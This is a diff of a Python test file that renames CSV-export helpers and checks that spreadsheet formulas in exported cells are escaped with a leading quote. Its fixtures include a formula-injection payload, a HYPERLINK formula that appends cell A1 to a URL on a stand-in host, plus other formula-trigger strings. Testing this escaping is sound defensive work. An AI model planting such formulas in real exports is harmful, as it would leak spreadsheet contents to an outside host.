@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from referee.files.bundle import read_bundle
-from referee.files.csv_files import Cell, as_shown, write_sheet
+from referee.files.csv_files import Cell, escape_formula, write_csv_file
 from referee.files.export import export_csv, export_jsonl
 from referee.review import Review
 from referee.review.analyst_tables import write_csv
@@ -43,11 +43,11 @@ FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
     ],
 )
 def test_a_text_is_no_formula_and_numbers_stay_numbers(cell: Cell, shown: Cell) -> None:
-    assert as_shown(cell) == shown
+    assert escape_formula(cell) == shown
 
 
 def test_rows_hold_what_is_shown(tmp_path: Path) -> None:
-    path = write_sheet(tmp_path / "new" / "t.csv", ("a", "b"), [(FORMULA, -1), (None, "one, two")])
+    path = write_csv_file(tmp_path / "new" / "t.csv", ("a", "b"), [(FORMULA, -1), (None, "one, two")])
     with path.open(encoding="utf-8", newline="") as file:
         assert list(csv.reader(file)) == [["a", "b"], [f"'{FORMULA}", "-1"], ["", "one, two"]]
 
@@ -75,4 +75,4 @@ def test_no_table_of_a_review_or_a_comparison_holds_a_formula(begin: Callable[..
     cells = [cell for text in texts for line in csv.reader(StringIO(text, newline="")) for cell in line]
     assert {f"'{FORMULA}", "'=1+1", "'-Ada"} <= set(cells)
     assert "'@North; East; South; West" in cells
-    assert [cell for cell in cells if as_shown(cell) != cell] == []
+    assert [cell for cell in cells if escape_formula(cell) != cell] == []
